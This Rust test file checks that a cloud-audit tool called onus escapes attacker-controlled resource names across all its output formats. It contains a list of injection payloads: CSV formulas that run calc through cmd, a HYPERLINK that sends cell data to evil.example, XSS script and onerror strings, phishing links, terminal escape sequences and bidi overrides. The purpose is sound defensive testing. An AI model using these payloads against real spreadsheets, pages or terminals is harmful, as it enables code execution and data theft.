//! Hostile data through every format. The demo estate is renamed, retagged and
//! its gap errors rewritten with an attacker's strings (spreadsheet formulas,
//! Markdown and HTML markup, mentions, URLs, terminal escapes, bidi overrides),
//! then rendered in every format; each format is checked for anything live that
//! came from data.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::util::*;

/// What an attacker who can name resources writes.
pub(crate) const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a`<img src=x onerror=alert(1)>`b",
    "``` fence",
    "[click me](http://evil.example/phish)",
    "![pixel](http://evil.example/track.png)",
    "<script>alert(document.cookie)</script>",
    "<a href=\"http://evil.example\">x</a>",
    "<!-- hide the rest",
    "@octocat please merge",
    "ping @everyone",
    "\r## Injected heading",
    "\n# Injected heading",
    "# heading at the start",
    "1. ordered list",
    "- bullet",
    "> quote",
    "| col | break |",
    "*emphasis* and __strong__ and ~~strike~~",
    "$\\LaTeX$ math",
    "https://evil.example/bare",
    "www.evil.example",
    "&lt;entity&gt; &#60;script&#62;",
    "\u{1b}[2J\u{1b}[Hscreen cleared",
    "\u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "\u{1b}]0;window title\u{7}",
    "c1 csi \u{9b}31m red",
    "bell \u{7} backspace \u{8}\u{8}",
    "bidi \u{202e}gnp.exe",
    "isolate \u{2066}x\u{2069}",
    "\\`backslash escape\\`",
    "\u{0}nul",
];

/// The demo inventory with every resource renamed, retagged and re-identified
/// with hostile strings, and every gap error replaced by one.
pub(crate) fn hostile_inventory(dir: &Path) -> PathBuf {
    let mut inv: Value = serde_json::from_str(&std::fs::read_to_string(demo()).unwrap()).unwrap();
    for (i, r) in inv["resources"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .enumerate()
    {
        let h = HOSTILE[i % HOSTILE.len()];
        r["name"] = json!(h);
        // Ids stay unique; half of them carry the payload too.
        if i % 2 == 0 {
            r["id"] = json!(format!("{h}#{i}"));
        }
        r["tags"] = json!({ "owner": HOSTILE[(i + 7) % HOSTILE.len()], "x": h });
    }
    for (i, g) in inv["gaps"].as_array_mut().unwrap().iter_mut().enumerate() {
        g["error"] = json!(HOSTILE[(i + 3) % HOSTILE.len()]);
    }
    write(dir, "hostile.json", &serde_json::to_string(&inv).unwrap())
}

fn render(inventory: &Path, format: &str, extra: &[&str]) -> Vec<u8> {
    let out = onus()
        .args(["audit", "--inventory"])
        .arg(inventory)
        .args(["--format", format])
        .args(extra)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{format}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// A control character that is not the layout's newline.
fn data_control(c: char) -> bool {
    (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn the_table_emits_no_escape_from_data() {
    let dir = tempfile::tempdir().unwrap();
    let inv = hostile_inventory(dir.path());
    let plain = String::from_utf8(render(&inv, "table", &["--color", "never"])).unwrap();
    let bad: Vec<char> = plain.chars().filter(|c| data_control(*c)).collect();
    assert!(bad.is_empty(), "control characters in the table: {bad:?}");
    // The payloads are there, shown escaped.
    assert!(plain.contains("\\x1b[2J"), "escaped, not dropped");
    // With colour, the only escapes are onus's own SGR colour codes.
    let coloured = String::from_utf8(render(&inv, "table", &["--color", "always"])).unwrap();
    let mut rest = coloured.as_str();
    while let Some(i) = rest.find('\u{1b}') {
        let after = &rest[i + 1..];
        let sgr = after.strip_prefix('[').is_some_and(|a| {
            let end = a.find('m').unwrap_or(a.len());
            end > 0 && a[..end].chars().all(|c| c.is_ascii_digit() || c == ';')
        });
        assert!(
            sgr,
            "a non-colour escape: {:?}",
            &after[..after.len().min(20)]
        );
        rest = after;
    }
    let stripped: String = coloured.chars().filter(|c| *c != '\u{1b}').collect();
    assert!(!stripped.chars().any(data_control));
}

#[test]
fn csv_cells_are_never_live_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let inv = hostile_inventory(dir.path());
    let text = render(&inv, "csv", &[]);
    let mut reader = csv::Reader::from_reader(text.as_slice());
    let mut rows = 0;
    for record in reader.records() {
        let record = record.expect("the CSV parses");
        rows += 1;
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell: {cell:?}"
            );
        }
    }
    assert!(rows > 100);
    let text = String::from_utf8(text).unwrap();
    assert!(
        text.contains("'=HYPERLINK("),
        "neutralised with a quote, not dropped"
    );
}

#[test]
#[cfg_attr(
    onus_missing_python_validators,
    ignore = "needs the Python validators in .venv: run scripts/test, which installs them"
)]
fn markdown_renders_no_element_from_data() {
    let dir = tempfile::tempdir().unwrap();
    let inv = hostile_inventory(dir.path());
    let md = render(&inv, "markdown", &[]);
    let path = dir.path().join("onus.md");
    std::fs::write(&path, &md).unwrap();
    let text = String::from_utf8(md).unwrap();
    assert!(!text.chars().any(data_control), "raw control characters");
    let python = tool(
        "markdown_renders_no_element_from_data",
        root().join(".venv/bin/python"),
    );
    let out = std::process::Command::new(python)
        .arg(root().join("tests/adversarial/check_markdown.py"))
        .arg(&path)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    // The build found the validators; one missing now fails, never skips.
    assert!(
        !stderr.contains("No module named 'markdown_it'"),
        "markdown-it-py is missing from .venv: run scripts/test, which installs it"
    );
    assert!(out.status.success(), "{stderr}");
    let problems: Vec<String> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(problems.is_empty(), "{problems:#?}");
}

#[test]
fn html_escapes_every_payload() {
    let dir = tempfile::tempdir().unwrap();
    let inv = hostile_inventory(dir.path());
    let html = String::from_utf8(render(&inv, "html", &[])).unwrap();
    assert_eq!(html.matches("<script").count(), 1, "onus's own script only");
    for h in HOSTILE
        .iter()
        .filter(|h| h.contains('<') || h.contains('"'))
    {
        assert!(!html.contains(h), "unescaped: {h}");
    }
    assert!(!html.contains("<img") && !html.contains("<a href") && !html.contains("<!-- hide"));
}

#[test]
fn structured_formats_stay_valid() {
    let dir = tempfile::tempdir().unwrap();
    let inv = hostile_inventory(dir.path());
    for format in ["json", "sarif", "ocsf"] {
        let text = render(&inv, format, &[]);
        let v: Value = serde_json::from_slice(&text).unwrap_or_else(|e| panic!("{format}: {e}"));
        assert!(!v.is_null());
    }
    let junit = String::from_utf8(render(&inv, "junit", &[])).unwrap();
    let bad: Vec<char> = junit
        .chars()
        .filter(|c| (*c as u32) < 0x20 && !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    assert!(bad.is_empty(), "characters XML 1.0 cannot carry: {bad:?}");
    assert!(!junit.contains("<script>"));
    // Coverage travels in every format that has room for it.
    assert!(
        junit.contains("onus.coverage.enumerated_only"),
        "JUnit suite properties"
    );
    let sarif: Value = serde_json::from_slice(&render(&inv, "sarif", &[])).unwrap();
    assert_eq!(
        sarif["runs"][0]["properties"]["onusCoverage"]["enumerated_only"],
        3
    );
    assert_eq!(
        sarif["runs"][0]["properties"]["onusUnclassifiedKinds"],
        json!(["aws.braket.quantum-task"])
    );
}

#[test]
fn error_messages_show_data_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let inv = write(
        dir.path(),
        "bad.json",
        r#"{"schema": "onus.inventory/v1", "resources": [{"id": "x", "provider": "aws", "account": "1", "kind": "aws.nope\u001b[2J\u001b]0;pwned\u0007", "name": "n"}]}"#,
    );
    let out = onus()
        .args(["audit", "--inventory"])
        .arg(&inv)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
        "{stderr:?}"
    );
    assert!(stderr.contains("\\x1b[2J"), "{stderr}");
}

#[test]
fn duplicate_keys_and_impossible_times_are_refused_with_their_place() {
    let dir = tempfile::tempdir().unwrap();
    let dup = write(
        dir.path(),
        "dup.json",
        "{\"schema\": \"onus.inventory/v1\", \"resources\": [\n {\"id\": \"a\", \"provider\": \"aws\", \"account\": \"1\", \"kind\": \"aws.s3.bucket\",\n  \"tags\": {\"env\": \"prod\", \"env\": \"dev\"}}]}",
    );
    let out = onus()
        .args(["audit", "--inventory"])
        .arg(&dup)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("dup.json:3:")
            && stderr.contains("resources[0].tags")
            && stderr.contains("duplicate key 'env'"),
        "{stderr}"
    );
    let early = write(
        dir.path(),
        "early.json",
        r#"{"schema": "onus.inventory/v1", "collected_at": "-0001-01-01T00:00:00Z", "resources": []}"#,
    );
    let out = onus()
        .args(["audit", "--inventory"])
        .arg(&early)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("at collected_at"));
    let future_key = write(
        dir.path(),
        "key.json",
        r#"{"schema": "onus.inventory/v1", "collected_at": "2026-01-01T00:00:00Z", "resources": [
 {"id": "u", "provider": "aws", "account": "1", "kind": "aws.iam.user",
  "facets": {"identity": {"access_keys": [{"id": "AKIA", "active": true, "created": "2027-01-01T00:00:00Z"}]}}}]}"#,
    );
    let out = onus()
        .args(["audit", "--inventory"])
        .arg(&future_key)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("resources[0].facets.identity.access_keys[0].created"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A baseline with a repeated key is refused too.
    let baseline = write(
        dir.path(),
        "b.json",
        r#"{"schema": "onus.baseline/v1", "findings": [], "findings": []}"#,
    );
    let out = onus()
        .args([
            "audit",
            "--inventory",
            "examples/demo/inventory.json",
            "--baseline",
        ])
        .arg(&baseline)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("duplicate key 'findings'"));
}

#[test]
fn json_asset_lists_are_strict() {
    let dir = tempfile::tempdir().unwrap();
    for (name, text, want) in [
        (
            "extra.json",
            r#"[{"name": "a", "kind": "server", "classification": "internal", "colour": "red"}]"#,
            "unknown field `colour`",
        ),
        (
            "trailing.json",
            r#"[{"name": "a", "kind": "server", "classification": "internal"}] garbage"#,
            "trailing data",
        ),
        (
            "dup.json",
            r#"[{"name": "a", "name": "b", "kind": "server", "classification": "internal"}]"#,
            "duplicate",
        ),
    ] {
        let path = write(dir.path(), name, text);
        let out = onus()
            .args(["plan", "--assets"])
            .arg(&path)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {stderr}");
        assert!(
            stderr.contains(name) && stderr.contains(want),
            "{name}: {stderr}"
        );
    }
}

#[test]
fn secrets_in_store_urls_never_reach_messages() {
    let out = onus()
        .args([
            "audit",
            "--inventory",
            "examples/demo/inventory.json",
            "--output",
            "/dev/null",
            "--store",
            "postgres://u:hunter2-canary@127.0.0.1:1/db?password=qp-canary&sslpassword=ssl-canary",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    for secret in ["hunter2-canary", "qp-canary", "ssl-canary"] {
        assert!(!stderr.contains(secret), "{stderr}");
    }
    assert!(stderr.contains("127.0.0.1:1"), "{stderr}");
}

#[test]
fn logs_into_a_file_carry_no_colour_codes() {
    let out = onus()
        .args([
            "-v",
            "--color",
            "auto",
            "audit",
            "--inventory",
            "examples/demo/inventory.json",
            "--output",
            "/dev/null",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        !out.stderr.contains(&0x1b),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn compliance_views_escape_every_payload() {
    let dir = tempfile::tempdir().unwrap();
    let inv = hostile_inventory(dir.path());
    let fw = ["--framework", "ccm-4.0,nist-800-53-r5"];
    // The compliance CSV lists every resource a control applies to: no live formula.
    let text = render(&inv, "compliance-csv", &fw);
    let mut reader = csv::Reader::from_reader(text.as_slice());
    let mut rows = 0;
    for record in reader.records() {
        rows += 1;
        for cell in record.expect("the CSV parses").iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell: {cell:?}"
            );
        }
    }
    assert!(rows > 197, "{rows}");
    // HTML folds the resources with gaps under each control: escaped.
    let html = String::from_utf8(render(&inv, "html", &fw)).unwrap();
    assert!(html.contains("resource(s) with gaps"));
    assert_eq!(html.matches("<script").count(), 1, "onus's own script only");
    for h in HOSTILE
        .iter()
        .filter(|h| h.contains('<') || h.contains('"'))
    {
        assert!(!html.contains(h), "unescaped: {h}");
    }
    let table = String::from_utf8(render(
        &inv,
        "table",
        &[&fw[..], &["--color", "never"]].concat(),
    ))
    .unwrap();
    assert!(table.contains("Compliance: CSA Cloud Controls Matrix"));
    assert!(!table.chars().any(data_control));
}
